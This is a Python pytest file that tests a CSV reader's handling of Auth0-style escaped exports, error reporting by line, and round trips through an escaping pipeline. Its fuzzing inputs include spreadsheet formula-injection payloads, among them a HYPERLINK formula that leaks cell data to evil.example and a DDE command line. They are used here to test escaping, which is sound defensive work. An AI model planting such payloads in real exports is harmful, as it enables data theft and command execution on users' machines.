"""Reading CSV with fetch: Auth0-escaped exports back to typed values, plain CSV, style detection,
RFC 4180 details, nesting dotted titles back into objects, errors that name and count the CSV
lines, and the escape-csv | csv | fetch round trip (in process and through real pipes)."""

from __future__ import annotations

import datetime
import gzip
import io
import re
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from ndpipe import codec, csvio
from ndpipe.csvio import (
    auth0_cell,
    detect_style,
    header_cell,
    is_iso_datetime,
    nested_paths,
    read_csv,
    read_titles,
)
from ndpipe.errors import DataError
from ndpipe.io import ErrorPolicy, Position, sniff
from ndpipe.ops.csv import csv, write_lines
from ndpipe.ops.escape_csv import escape_csv
from tests.conftest import FIXTURES, ndjson, records, run_ndpipe, shell

AUTH0_CSV = FIXTURES / "csv" / "auth0-export.csv"
AUTH0_RECORDS = records((FIXTURES / "csv" / "auth0-export.ndjson").read_bytes())


def read(
    data: bytes, style: str = "auto", on_error: str = "fail", policy: ErrorPolicy | None = None
) -> list[dict[str, Any]]:
    sniffed = sniff(io.BytesIO(data))
    if sniffed.kind == "empty":
        return []
    assert sniffed.kind == "other"
    policy = policy or ErrorPolicy(on_error)
    return list(read_csv(sniffed.stream, Position("test.csv"), policy, style=style))


def exact_records(output: bytes) -> list[dict[str, Any]]:
    """NDJSON lines read with integers exact (conftest's `records` uses orjson alone)."""
    return [codec.loads(line) for line in output.splitlines() if line.strip()]


def exact_ndjson(data: list[dict[str, Any]]) -> bytes:
    return b"".join(codec.dumps(record) + b"\n" for record in data)


# --- the Auth0 fixture ----------------------------------------------------------------------


def auth0_documented_cell(value: Any) -> str:
    """AUTH0.md 1.6, literally: strings get '"' doubled, a leading ', and are wrapped in double
    quotes; Auth0's ISO 8601 dates, booleans and numbers are bare; null is an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    text = str(value)
    if re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", text):
        return text
    return '"' + "'" + text.replace('"', '""') + '"'


def test_the_fixture_follows_auth0_documented_escaping():
    header = ",".join(AUTH0_RECORDS[0])
    rows = [",".join(auth0_documented_cell(v) for v in r.values()) for r in AUTH0_RECORDS]
    assert AUTH0_CSV.read_bytes().decode() == "\n".join([header, *rows]) + "\n"


@pytest.mark.parametrize("source", ["auth0-export.csv", "auth0-export.csv.gz"])
@pytest.mark.parametrize("style", [[], ["--csv-style", "auto"], ["--csv-style", "auth0"]])
def test_auth0_export_reads_back_into_typed_values(source, style):
    result = run_ndpipe("fetch", f"fixtures/csv/{source}", *style)
    assert result.returncode == 0, result.stderr
    assert result.stderr == b""
    assert records(result.stdout) == AUTH0_RECORDS


def test_auth0_export_from_stdin_gzip():
    result = run_ndpipe("fetch", input=gzip.compress(AUTH0_CSV.read_bytes()))
    assert records(result.stdout) == AUTH0_RECORDS


def test_read_and_written_again_the_auth0_export_is_unchanged():
    result = run_ndpipe(
        "fetch", "fixtures/csv/auth0-export.csv", "then", "escape-csv", "--style", "auth0",
        "then", "csv",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stdout == AUTH0_CSV.read_bytes()


def test_auth0_export_read_as_plain_keeps_the_prefixes():
    result = run_ndpipe("fetch", "fixtures/csv/auth0-export.csv", "--csv-style", "plain")
    first = records(result.stdout)[0]
    assert first["Email"] == "'jane.doe0@example.com"
    assert first["Email Verified"] == "false"
    assert first["Created At"] == "2019-01-01T00:00:00.000Z"
    assert first["Logins Count"] == "0"


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        ("'jane", "jane"),
        ("''jane", "'jane"),  # exactly one ' is removed
        ("'", ""),
        ("'true", "true"),
        ("'19", "19"),
        ("", None),
        ("true", True),
        ("false", False),
        ("True", True),
        ("FALSE", False),
        ("19", 19),
        ("-5", -5),
        ("1.5", 1.5),
        ("1e+20", 1e20),
        ("007", "007"),
        ("+15550100", "+15550100"),
        ("1e999", "1e999"),
        ("1234567890123456789012345", 1234567890123456789012345),  # beyond 64 bits, exact
        ("-98765432109876543210987654321", -98765432109876543210987654321),
        ("18446744073709551616", 2**64),
        ("-0", 0),
        ("0.1", 0.1),
        ("1" * 5000, "1" * 5000),  # more digits than Python converts: kept as the text
        ("[123456789012345678901234567890]", [123456789012345678901234567890]),
        ('{"n":-123456789012345678901234567890}', {"n": -123456789012345678901234567890}),
        ("2017-11-02T23:34:03.803Z", "2017-11-02T23:34:03.803Z"),
        ('["admin","user"]', ["admin", "user"]),
        ('{"plan":"free"}', {"plan": "free"}),
        ("[not json", "[not json"),
        ("null", "null"),
    ],
)
def test_auth0_cells(cell, value):
    assert auth0_cell(cell) == value
    assert type(auth0_cell(cell)) is type(value)


# --- plain CSV and detection ----------------------------------------------------------------


def test_plain_csv_with_bom_crlf_and_quoted_newlines():
    result = run_ndpipe("fetch", "fixtures/csv/plain.csv")
    assert result.returncode == 0, result.stderr
    assert result.stdout == (FIXTURES / "csv" / "plain.ndjson").read_bytes()


@pytest.mark.parametrize(
    ("rows", "style"),
    [
        ([["'a", "true", "19", "2017-11-02T23:34:03.803Z", ""]], "auth0"),
        ([["'a", '["x"]'], ["", "'b"]], "auth0"),
        ([["'a", "b"]], "plain"),  # an unprefixed string: not an Auth0 export
        ([["O'Brien", "x"]], "plain"),
        ([["1", "true", "2017-11-02T23:34:03.803Z"]], "plain"),  # nothing to go on
        ([], "plain"),
    ],
)
def test_detect_style(rows, style):
    assert detect_style(rows) == style


def test_auto_decides_on_the_first_rows_only():
    head = b"a,b\n" + b'"\'x",1\n' * 100
    late = b"plain,2\n"
    assert read(head + late)[-1] == {"a": "plain", "b": 2}  # auth0 already decided
    assert read(b"a,b\nplain,1\n" + b'"\'x",1\n')[-1] == {"a": "'x", "b": "1"}


def test_auth0_header_titles_lose_their_prefix_when_all_have_one_or_it_protects_a_formula():
    assert read(b"'Email,'Count\n\"'a\",1\n") == [{"Email": "a", "Count": 1}]
    assert read(b"'Email,Count\n\"'a\",1\n") == [{"'Email": "a", "Count": 1}]
    # what csv writes for keys a spreadsheet would run
    data = b"'=HYPERLINK(1),''=x,-12,Count\n\"'a\",1,2,3\n"
    assert read(data, style="auth0") == [{"=HYPERLINK(1)": "a", "'=x": 1, "-12": 2, "Count": 3}]
    # plain takes titles verbatim
    assert list(read(data, style="plain")[0]) == ["'=HYPERLINK(1)", "''=x", "-12", "Count"]


@pytest.mark.parametrize(
    "name", ["=x", "'=x", "''=x", "'x", "x", " =x", "\u200b@x", "-12.5", "+1-2", "'", ""]
)
def test_header_cell_and_read_titles_are_inverse(name):
    assert read_titles([header_cell(name), "other"]) == [name, "other"]


# --- nesting dotted titles back (auth0 style) -----------------------------------------------


@pytest.mark.parametrize(
    ("titles", "paths"),
    [
        (["email", "user_metadata.name"], [("email",), ("user_metadata", "name")]),
        (["a.b.c", "a.d"], [("a", "b", "c"), ("a", "d")]),
        (["email", "name"], None),  # nothing to nest
        (["a", "a.b"], None),  # a value and an object at once: all stay flat
        (["a.b", "a.b.c"], None),
        (["a.", "b"], None),  # an empty part is not a path
        (["a..b", ".a", "c"], None),
        # Auth0 export paths with an array index stay one flat key
        (["identities[0].connection", "x.y"], [("identities[0].connection",), ("x", "y")]),
    ],
)
def test_nested_paths(titles, paths):
    assert nested_paths(titles) == paths


def test_auth0_style_nests_dotted_titles_and_plain_does_not():
    data = (
        b"email,user_metadata.name,user_metadata.prefs.news,app_metadata.roles,created_at\n"
        b'"\'a@x","\'A",true,"[""admin""]",2021-09-16T03:24:32.897Z\n'
        b'"\'b@x",,false,[],\n'
    )
    expected = [
        {
            "email": "a@x",
            "user_metadata": {"name": "A", "prefs": {"news": True}},
            "app_metadata": {"roles": ["admin"]},
            "created_at": "2021-09-16T03:24:32.897Z",
        },
        {
            "email": "b@x",
            "user_metadata": {"name": None, "prefs": {"news": False}},
            "app_metadata": {"roles": []},
            "created_at": None,
        },
    ]
    assert read(data, style="auth0") == expected
    assert read(data) == expected  # auto: the prefixed strings say auth0
    assert list(read(data, style="plain")[0]) == [
        "email",
        "user_metadata.name",
        "user_metadata.prefs.news",
        "app_metadata.roles",
        "created_at",
    ]
    conflicting = b"a,a.b\n1,2\n"
    assert read(conflicting, style="auth0") == [{"a": 1, "a.b": 2}]


def test_blank_lines_header_only_and_cr_only_line_ends():
    assert read(b"a,b\n\n1,2\n\n") == [{"a": "1", "b": "2"}]
    assert read(b"a,b\n") == []
    assert read(b'a,b\r1,2\r"x\ry",3\r') == [{"a": "1", "b": "2"}, {"a": "x\ry", "b": "3"}]
    assert read(b'a\n""\n') == [{"a": None}]


# --- errors name the physical CSV line ------------------------------------------------------

RAGGED = b'id,note\n1,ok\n2,"two\nlines"\n3\n4,"also\ntwo",extra\n5,fine\n'


def test_ragged_row_names_the_line_where_the_record_starts():
    result = run_ndpipe("fetch", input=RAGGED)
    assert result.returncode == 1
    assert result.stderr.startswith(b"ndpipe fetch: stdin:5: expected 2 fields"), result.stderr
    assert records(result.stdout) == [{"id": "1", "note": "ok"}, {"id": "2", "note": "two\nlines"}]
    assert b"Traceback" not in result.stderr


def test_ragged_rows_can_be_skipped_and_every_line_they_span_is_counted():
    result = run_ndpipe("fetch", "--on-error", "skip", input=RAGGED)
    assert result.returncode == 0
    assert [r["id"] for r in records(result.stdout)] == ["1", "2", "5"]
    # the row of lines 6-7 is two lines lost
    assert result.stderr == b"ndpipe fetch: skipped 3 bad lines (stdin:5, stdin:6, stdin:7)\n"


def test_a_failure_later_in_the_pipeline_names_the_csv_file_and_line(tmp_path):
    path = tmp_path / "users.csv"
    path.write_bytes(b'email,n\n"a\nb",1\nc,\n')
    # plain style: n is "1" on the record of lines 2-3 and null on line 4, where length() fails
    result = run_ndpipe("fetch", str(path), "then", "select", "x=length(n)")
    assert result.returncode == 1
    assert result.stderr.startswith(f"ndpipe select: {path}:4: expression".encode()), result.stderr


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b'a,b\n1,2\n"x"y,3\n', b"stdin:3: bad CSV"),
        (b"a,b\n1,2\n3,\xff\n", b"stdin:3: invalid UTF-8 on line 3: byte 3 of the line (0xff)"),
        (b"a,a\n1,2\n", b"stdin:1: the header names the column 'a' twice"),
        (
            b'a,b\n1,2\n3,"unclosed\n',
            b"stdin:3: line 3 could not be read: the row that starts on line 3 opens a quote "
            b"that is never closed",
        ),
        (
            b'a,b\n1,2\n3,"un\n4,x\n5,"q",z\n6,ok\n',
            b"stdin:3: bad CSV on line 5: ',' expected after '\"' (lines 3-5, the row that "
            b"starts on line 3)",
        ),
    ],
)
def test_bad_csv_exits_1_naming_the_line(data, message):
    result = run_ndpipe("fetch", input=data)
    assert result.returncode == 1
    assert result.stderr.startswith(b"ndpipe fetch: " + message), result.stderr
    assert b"Traceback" not in result.stderr


def test_an_unclosed_quote_names_and_counts_every_line_it_swallows():
    lines = [b"id,note"] + [b"%d,fine" % number for number in range(2, 1001)]
    lines[4] = b'5,"opened and never closed'
    data = b"\n".join(lines) + b"\n"
    failed = run_ndpipe("fetch", input=data)
    assert failed.returncode == 1
    assert failed.stderr == (
        b"ndpipe fetch: stdin:5: lines 5-1000 could not be read: the row that starts on line 5 "
        b"opens a quote that is never closed\n"
    )
    assert len(records(failed.stdout)) == 3
    skipped = run_ndpipe("fetch", "--on-error", "skip", input=data)
    assert skipped.returncode == 0
    assert len(records(skipped.stdout)) == 3
    listed = ", ".join(f"stdin:{line}" for line in range(5, 15))
    assert skipped.stderr == f"ndpipe fetch: skipped 996 bad lines ({listed}, ...)\n".encode()


def test_a_bad_row_in_the_middle_loses_only_its_lines():
    data = b'a,b\n1,2\n3,"un\n4,x\n5,"q",z\n6,ok\n'
    policy = ErrorPolicy("skip")
    assert read(data, policy=policy) == [{"a": "1", "b": "2"}, {"a": "6", "b": "ok"}]
    assert (policy.skipped, policy.skipped_at) == (3, ["test.csv:3", "test.csv:4", "test.csv:5"])


def test_a_cell_over_the_field_limit_ends_the_reading_honestly(monkeypatch):
    monkeypatch.setattr(csvio, "FIELD_LIMIT", 50)
    data = b'a,b\n1,2\n3,"' + b"long line\n" * 20 + b'"\n4,5\n6,7\n'
    with pytest.raises(DataError, match=r"test\.csv:3: the row that starts on line 3 has a cell"):
        read(data)
    policy = ErrorPolicy("skip")
    assert read(data, policy=policy) == [{"a": "1", "b": "2"}]
    # lines 3-25: the row that could not be read and everything after it
    assert policy.skipped == 23
    assert policy.skipped_at[0] == "test.csv:3"


@pytest.mark.parametrize(
    ("data", "where"),
    [
        (b'a,b\n1,"two\nli\xe9nes"\n', b"stdin:3: invalid UTF-8 on line 3: byte 3 of the line"),
        (b"a,b\r1,2\r3,caf\xe9\r", b"stdin:3: invalid UTF-8 on line 3: byte 6 of the line"),
        (b"a,b\r\n1,2\r\n\x93q\x94,3\r\n", b"stdin:3: invalid UTF-8 on line 3: byte 1"),
    ],
)
def test_invalid_utf8_names_line_and_byte_and_suggests_a_conversion(data, where):
    for options in ([], ["--on-error", "skip"]):  # never skipped: the cells cannot be told apart
        result = run_ndpipe("fetch", *options, input=data)
        assert result.returncode == 1
        assert result.stderr.startswith(b"ndpipe fetch: " + where), result.stderr
        assert b"the input is not UTF-8" in result.stderr
        assert b"iconv -f WINDOWS-1252 -t UTF-8" in result.stderr
        assert b"latin1" not in result.stderr and b"Traceback" not in result.stderr


def test_rows_before_a_bad_row_are_kept_while_auto_is_still_sampling():
    sniffed = sniff(io.BytesIO(b"a\n'x\n'y\n\"z\"q\n"))
    rows = read_csv(sniffed.stream, Position("test.csv"), ErrorPolicy("fail"))
    assert [next(rows), next(rows)] == [{"a": "x"}, {"a": "y"}]
    with pytest.raises(DataError, match=r"test\.csv:4"):
        next(rows)
    policy_rows = read(b'a\n"\'x"\n"z"q\n"\'y"\n', on_error="skip")
    assert policy_rows == [{"a": "x"}, {"a": "y"}]


# --- round trips ----------------------------------------------------------------------------
#
# README, "Reading CSV (fetch)": `escape-csv --style auth0 | csv | fetch --csv-style auth0` gives
# back records that (1) all have the first record's shape: the same keys, nested objects
# present in every record (not null or missing), and at the leaves a string, number, boolean,
# null, array or empty object; (2) have keys that are not empty and contain no `.` (nor `[`),
# not all starting with `'`, the first not starting (after spaces) with `[` or `{`; (3) hold no
# NUL character; (4) have at least two columns, or one whose title is not JSON text. The
# strategies below draw such records (the one-column case is an example test).

DATES = st.datetimes(
    min_value=datetime.datetime(1970, 1, 1), max_value=datetime.datetime(2100, 1, 1)
).map(lambda moment: moment.isoformat(timespec="milliseconds") + "Z")
# Text without NUL (the core refuses input with NUL bytes as binary).
TEXT = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"))
HOSTILE = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        " =1",
        "\u200b=1",
        "\ufeff+1",
        "+14155550100",
        "-12.5",
        "'already",
        "''",
        "'",
        "",
        '"',
        'say "hi", twice\r\nthen "bye"',
        "\r",
        "\n",
        "true",
        "FALSE",
        "null",
        "19",
        "1e999",
        "[1, 2]",
        "{}",
        "02134",
        "2017-11-02T23:34:03.803Z",
        "2017-11-02",
        "Zoë 😀 李小龍",
    ]
)
SCALARS = st.one_of(
    TEXT,
    HOSTILE,
    st.booleans(),
    st.none(),
    st.integers(),
    st.integers(min_value=-(10**40), max_value=10**40),  # beyond 64 bits
    st.floats(allow_nan=False, allow_infinity=False),
    DATES,
)
JSON = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=6,
)
LEAVES = st.one_of(SCALARS, st.lists(JSON, max_size=3), st.just({}))
KEY_TEXT = st.text(
    st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00.[{"), max_size=5
)
# Keys start with letters, formula signs, spaces or invisible characters; `csv` escapes
# the titles a spreadsheet would run, and the auth0 reading undoes it.
KEYS = st.builds(
    lambda first, rest: first + rest,
    st.sampled_from(["a", "Z", "_", "é", "李", "=", "+", "-", "@", " ", "\u200b", "x'", '"']),
    KEY_TEXT,
)
# A shape is a nested dict of keys whose leaves are None (a leaf is drawn there).
SHAPE = st.recursive(
    st.none(), lambda inner: st.dictionaries(KEYS, inner, min_size=1, max_size=3), max_leaves=8
)
TOP_SHAPE = st.dictionaries(KEYS, SHAPE, min_size=2, max_size=5)


def fill(shape: dict[str, Any], data: st.DataObject) -> dict[str, Any]:
    return {
        key: data.draw(LEAVES) if inner is None else fill(inner, data)
        for key, inner in shape.items()
    }


def draw_records(data: st.DataObject, most: int) -> list[dict[str, Any]]:
    shape = data.draw(TOP_SHAPE)
    count = data.draw(st.integers(min_value=1, max_value=most))
    return [fill(shape, data) for _ in range(count)]


def through_csv(data: list[dict[str, Any]], style: str) -> list[dict[str, Any]]:
    out = io.BytesIO()
    # escape-csv changes records in place: it gets copies.
    copies = [codec.loads(codec.dumps(record)) for record in data]
    escaped = escape_csv(copies, style="auth0")
    write_lines(csv(escaped), out)
    return read(out.getvalue(), style=style)


def cells_have_a_string(data: list[dict[str, Any]]) -> bool:
    """Whether some cell is a string other than an ISO date (which auto needs to say auth0)."""
    pending: list[Any] = list(data[:100])
    while pending:
        value = pending.pop()
        if type(value) is dict:
            pending.extend(value.values())
        elif isinstance(value, str) and not is_iso_datetime(value):
            return True
    return False


@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_escape_auth0_csv_fetch_round_trip(data):
    original = draw_records(data, 8)
    assert through_csv(original, "auth0") == original
    # auto recognises the escaping whenever there is a string that was prefixed
    assume(cells_have_a_string(original))
    assert through_csv(original, "auto") == original


ROUND_TRIP = "ndpipe escape-csv --style auth0 | ndpipe csv | ndpipe fetch --csv-style auth0"


@settings(max_examples=25, deadline=None)
@given(data=st.data())
def test_escape_auth0_csv_fetch_round_trip_through_real_pipes(data):
    original = draw_records(data, 6)
    result = shell(ROUND_TRIP, input=exact_ndjson(original))
    assert result.returncode == 0, result.stderr
    assert result.stderr == b""
    assert exact_records(result.stdout) == original


def test_only_numbers_booleans_dates_and_one_column_round_trip_with_auth0():
    original = [
        {"n": 12345678901234567890123456789, "ok": True, "at": "2021-09-16T03:24:32.897Z"},
        {"n": -0.5, "ok": False, "at": None},
    ]
    result = shell(ROUND_TRIP, input=exact_ndjson(original))
    assert exact_records(result.stdout) == original
    # auto has no prefixed string to go on, so it reads plain text (as the README says)
    auto = shell(
        "ndpipe escape-csv --style auth0 | ndpipe csv | ndpipe fetch", input=ndjson([original[1]])
    )
    assert records(auto.stdout) == [{"n": "-0.5", "ok": "false", "at": None}]
    # One column is fine too, as long as its title is not JSON text: the core takes input whose
    # first line is JSON (a quoted title, a number) for NDJSON.
    single = [{"=HYPERLINK(1)": "x"}, {"=HYPERLINK(1)": None}]
    quoted = shell("ndpipe escape-csv --style auth0 | ndpipe csv", input=ndjson(single))
    assert quoted.stdout.splitlines()[0] == b'"\'=HYPERLINK(1)"'
    single = [{"email": "=x"}, {"email": None}]
    assert exact_records(shell(ROUND_TRIP, input=ndjson(single)).stdout) == single


@settings(max_examples=200, deadline=None)
@given(keys=st.lists(KEYS, min_size=2, max_size=4, unique=True), data=st.data())
def test_plain_round_trip_gives_strings_and_null_for_empty(keys, data):
    rows = data.draw(st.lists(st.lists(TEXT, min_size=len(keys), max_size=len(keys))))
    out = io.BytesIO()
    write_lines(csv([dict(zip(keys, row, strict=True)) for row in rows]), out)
    # plain takes the titles verbatim, with the ' csv puts before formula text
    titles = [header_cell(key) for key in keys]
    expected = [{k: (v if v else None) for k, v in zip(titles, row, strict=True)} for row in rows]
    assert read(out.getvalue(), style="plain") == expected


def test_round_trip_through_the_real_cli_pipes():
    original = [
        {
            "email": 'a"b@x.com',
            "name": '=HYPERLINK("x")\nline two, with comma',
            "nickname": "'already quoted",
            "verified": True,
            "logins": 19,
            "created_at": "2017-11-02T23:34:03.803Z",
            "phone": None,
            "note": "",
            "zip": "02134",
            "word": "true",
            "user_metadata": {"name": "=1", "prefs": {"news": True, "tags": ["=x", 1]}},
            "-2+3": 12345678901234567890123456789,
        },
        {
            "email": "jane@example.com",
            "name": "Zoë 😀 李小龍",
            "nickname": "-2+3",
            "verified": False,
            "logins": 0,
            "created_at": "2021-09-16T03:24:32.897Z",
            "phone": "+15550100",
            "note": None,
            "zip": "-1",
            "word": "19",
            "user_metadata": {"name": None, "prefs": {"news": False, "tags": []}},
            "-2+3": -1.5,
        },
    ]
    result = shell(ROUND_TRIP, input=exact_ndjson(original))
    assert result.returncode == 0, result.stderr
    assert exact_records(result.stdout) == original
    auto = shell(
        "ndpipe escape-csv --style auth0 | ndpipe csv | ndpipe fetch", input=exact_ndjson(original)
    )
    assert exact_records(auto.stdout) == original
    chained = run_ndpipe(
        "escape-csv", "--style", "auth0", "then", "csv", input=exact_ndjson(original)
    )
    assert run_ndpipe("fetch", input=chained.stdout).stdout == exact_ndjson(original)


def test_fetch_writes_big_integer_cells_exactly():
    data = b'id,n\n"\'a",123456789012345678901234567890\n'
    result = run_ndpipe("fetch", input=data)
    assert result.stdout == b'{"id":"a","n":123456789012345678901234567890}\n'
